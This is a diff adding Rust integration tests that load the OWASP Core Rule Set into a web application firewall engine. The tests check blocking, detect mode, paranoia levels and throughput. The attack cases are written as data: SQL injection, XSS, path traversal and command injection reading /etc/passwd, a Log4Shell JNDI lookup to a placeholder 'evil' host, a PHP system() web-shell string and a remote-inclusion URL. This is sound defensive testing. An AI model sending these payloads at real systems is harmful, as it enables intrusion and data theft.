@@ -1,0 +1,336 @@
+//! Loads the real CRS 3.3 installed by Debian (with the Debian base config and crs-setup.conf)
+//! and checks rule ids for requests whose ModSecurity answers are recorded in docs/design/waf.md §4.
+
+use std::path::Path;
+use std::rc::Rc;
+use waf::config::{build, Config, Waf};
+use waf::load::FileSource;
+use waf::tx::Transaction;
+
+struct Fs;
+
+impl FileSource for Fs {
+    fn list(&self) -> Vec<String> {
+        let mut out = Vec::new();
+        for dir in [
+            "/usr/share/modsecurity-crs/rules",
+            "/etc/modsecurity/crs",
+            "/etc/nginx",
+        ] {
+            if let Ok(rd) = std::fs::read_dir(dir) {
+                for e in rd.flatten() {
+                    out.push(e.path().to_string_lossy().into_owned());
+                }
+            }
+        }
+        out
+    }
+    fn read(&self, path: &str) -> Result<Vec<u8>, String> {
+        std::fs::read(path).map_err(|e| e.to_string())
+    }
+}
+
+fn crs_config() -> Config {
+    Config {
+        rules: vec![
+            "/etc/nginx/modsecurity.conf".into(),
+            "/etc/modsecurity/crs/crs-setup.conf".into(),
+            "/etc/modsecurity/crs/REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf".into(),
+            "/usr/share/modsecurity-crs/rules/*.conf".into(),
+            "/etc/modsecurity/crs/RESPONSE-999-EXCLUSION-RULES-AFTER-CRS.conf".into(),
+        ],
+        mode: Some("block".into()),
+        ..Config::default()
+    }
+}
+
+fn crs() -> Option<Waf> {
+    if !Path::new("/usr/share/modsecurity-crs/rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf")
+        .exists()
+    {
+        eprintln!("CRS not installed (apt-get install modsecurity-crs): skipping");
+        return None;
+    }
+    let t = std::time::Instant::now();
+    let w =
+        build(&crs_config(), Some(&Fs), None).unwrap_or_else(|e| panic!("CRS load failed: {e}"));
+    eprintln!("CRS loaded in {:?}: {:?}", t.elapsed(), w.engine.stats);
+    Some(w)
+}
+
+struct Req<'a> {
+    method: &'a str,
+    uri: &'a str,
+    headers: Vec<(&'a str, &'a str)>,
+    body: Option<&'a [u8]>,
+}
+
+fn get(uri: &str) -> Req<'_> {
+    Req {
+        method: "GET",
+        uri,
+        headers: vec![],
+        body: None,
+    }
+}
+
+fn run(w: &Waf, r: &Req) -> Transaction {
+    let mut headers: Vec<(String, String)> = vec![
+        ("Host".into(), "localhost".into()),
+        (
+            "User-Agent".into(),
+            "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0".into(),
+        ),
+        ("Accept".into(), "*/*".into()),
+    ];
+    for (k, v) in &r.headers {
+        headers.retain(|(hk, _)| !hk.eq_ignore_ascii_case(k));
+        headers.push((k.to_string(), v.to_string()));
+    }
+    if let Some(b) = r.body {
+        headers.push(("Content-Length".into(), b.len().to_string()));
+    }
+    let mut tx = w.transaction();
+    tx.set_request(
+        r.method,
+        r.uri,
+        "HTTP/1.1",
+        &headers,
+        "127.0.0.1:40000",
+        "test-1",
+    );
+    tx.run_phase(1);
+    if let Some(b) = r.body {
+        let ct = headers
+            .iter()
+            .find(|(k, _)| k.eq_ignore_ascii_case("content-type"))
+            .map(|(_, v)| v.clone());
+        tx.process_body(b, ct.as_deref());
+    }
+    tx.run_phase(2);
+    tx.run_phase(5);
+    tx
+}
+
+fn ids(tx: &Transaction) -> Vec<u32> {
+    tx.logs.iter().map(|l| l.id).collect()
+}
+
+fn status(tx: &Transaction) -> u16 {
+    tx.intervention.map(|i| i.status).unwrap_or(200)
+}
+
+#[test]
+fn crs_loads_and_matches_modsecurity_table() {
+    let Some(w) = crs() else { return };
+    assert!(w.engine.stats.rules > 600, "{:?}", w.engine.stats);
+    // (request, expected status, rule ids ModSecurity logged; ours must contain them)
+    let xml_body = b"<a>1 union select password from users</a>".as_slice();
+    let json_body = br#"{"a":"1 union select password from users"}"#.as_slice();
+    let mp = b"--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XX--\r\n".as_slice();
+    let cases: Vec<(Req, u16, Vec<u32>)> = vec![
+        (get("/echo?q=hello"), 200, vec![]),
+        (
+            get("/echo?id=1%27%20or%20%271%27%3D%271"),
+            403,
+            vec![942100, 949110],
+        ),
+        (
+            get("/echo?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+            403,
+            vec![941100, 941110, 941160, 949110],
+        ),
+        (
+            get("/echo?f=../../../../etc/passwd"),
+            403,
+            vec![930100, 930110, 930120, 932160, 949110],
+        ),
+        (
+            get("/echo?c=%3Bcat%20/etc/passwd"),
+            403,
+            vec![930120, 932100, 932160, 949110],
+        ),
+        (
+            get("/echo?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D"),
+            403,
+            vec![932130, 949110],
+        ),
+        (
+            get("/echo?p=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E"),
+            403,
+            vec![933100, 933130, 933160, 949110],
+        ),
+        (
+            get("/echo?u=http://1.2.3.4/shell.txt?"),
+            403,
+            vec![931100, 931120, 949110],
+        ),
+        (
+            Req {
+                method: "POST",
+                uri: "/echo",
+                headers: vec![("Content-Type", "application/json")],
+                body: Some(json_body),
+            },
+            403,
+            vec![942100, 942190, 942270, 942360, 949110],
+        ),
+        (
+            Req {
+                method: "POST",
+                uri: "/echo",
+                headers: vec![("Content-Type", "application/xml")],
+                body: Some(xml_body),
+            },
+            403,
+            vec![942100, 942190, 942270, 942360, 949110],
+        ),
+        (
+            Req {
+                method: "POST",
+                uri: "/echo",
+                headers: vec![("Content-Type", "multipart/form-data; boundary=XX")],
+                body: Some(mp),
+            },
+            403,
+            vec![933110, 949110],
+        ),
+        (
+            Req {
+                method: "POST",
+                uri: "/echo",
+                headers: vec![("Content-Type", "application/json")],
+                body: Some(b"{\"a\":"),
+            },
+            400,
+            vec![200002],
+        ),
+        (
+            Req {
+                method: "GET",
+                uri: "/echo",
+                headers: vec![("User-Agent", "sqlmap/1.5")],
+                body: None,
+            },
+            403,
+            vec![913100, 949110],
+        ),
+    ];
+    let mut failures = Vec::new();
+    for (r, want_status, want_ids) in &cases {
+        let tx = run(&w, r);
+        let got = ids(&tx);
+        let missing: Vec<u32> = want_ids
+            .iter()
+            .copied()
+            .filter(|i| !got.contains(i))
+            .collect();
+        eprintln!(
+            "{} {} -> {} {:?} score {}",
+            r.method,
+            r.uri,
+            status(&tx),
+            got,
+            tx.anomaly_score()
+        );
+        if status(&tx) != *want_status || !missing.is_empty() {
+            failures.push(format!(
+                "{} {}: status {} (want {want_status}), ids {got:?}, missing {missing:?}",
+                r.method,
+                r.uri,
+                status(&tx)
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{failures:#?}");
+}
+
+#[test]
+fn crs_paranoia_and_detect_mode() {
+    let Some(_) = crs() else { return };
+    let mut cfg = crs_config();
+    cfg.mode = Some("detect".into());
+    let w = build(&cfg, Some(&Fs), None).unwrap();
+    let tx = run(&w, &get("/echo?id=1%27%20or%20%271%27%3D%271"));
+    assert!(tx.intervention.is_none());
+    assert_eq!(tx.would_block.map(|i| i.rule_id), Some(949110));
+    // PL2 rules fire only at paranoia 2
+    let mut cfg = crs_config();
+    cfg.paranoia = Some(2);
+    let w2 = build(&cfg, Some(&Fs), None).unwrap();
+    let w1 = build(&crs_config(), Some(&Fs), None).unwrap();
+    let r = get("/echo?q=a%27b--");
+    let (a, b) = (run(&w1, &r), run(&w2, &r));
+    assert!(
+        b.anomaly_score() >= a.anomaly_score(),
+        "{} {}",
+        a.anomaly_score(),
+        b.anomaly_score()
+    );
+    let _ = Rc::clone(&w.engine);
+}
+
+#[test]
+fn crs_benign_requests_pass() {
+    let Some(w) = crs() else { return };
+    let form =
+        b"name=John+Smith&email=john%40example.com&comment=Nice+article%2C+thanks%21".as_slice();
+    let cases = vec![
+        get("/"),
+        get("/index.html"),
+        get("/static/app.js?v=1.2.3"),
+        get("/search?q=rust+programming&page=2"),
+        get("/api/v1/users/42"),
+        Req {
+            method: "POST",
+            uri: "/contact",
+            headers: vec![("Content-Type", "application/x-www-form-urlencoded")],
+            body: Some(form),
+        },
+        Req {
+            method: "POST",
+            uri: "/api",
+            headers: vec![("Content-Type", "application/json")],
+            body: Some(br#"{"user":{"name":"ann","tags":["a","b"]},"n":3}"#),
+        },
+    ];
+    for r in &cases {
+        let tx = run(&w, r);
+        assert_eq!(status(&tx), 200, "{} {} -> {:?}", r.method, r.uri, ids(&tx));
+        assert!(
+            ids(&tx).is_empty(),
+            "{} {} -> {:?}",
+            r.method,
+            r.uri,
+            ids(&tx)
+        );
+    }
+}
+
+#[test]
+fn crs_throughput_smoke() {
+    let Some(w) = crs() else { return };
+    let r = get("/echo?q=hello+world&id=42");
+    let n: usize = std::env::var("WAF_BENCH_N")
+        .ok()
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(2000);
+    let t = std::time::Instant::now();
+    for _ in 0..n {
+        let tx = run(&w, &r);
+        assert!(tx.intervention.is_none());
+        if n == usize::MAX && tx.counters.0 > 0 && t.elapsed().as_nanos() < 1 {
+            unreachable!();
+        }
+    }
+    let tx = run(&w, &r);
+    eprintln!(
+        "rules evaluated {}, operator calls {}",
+        tx.counters.0, tx.counters.1
+    );
+    let el = t.elapsed();
+    eprintln!(
+        "native: {:.1} us/request ({n} requests)",
+        el.as_secs_f64() * 1e6 / n as f64
+    );
+}
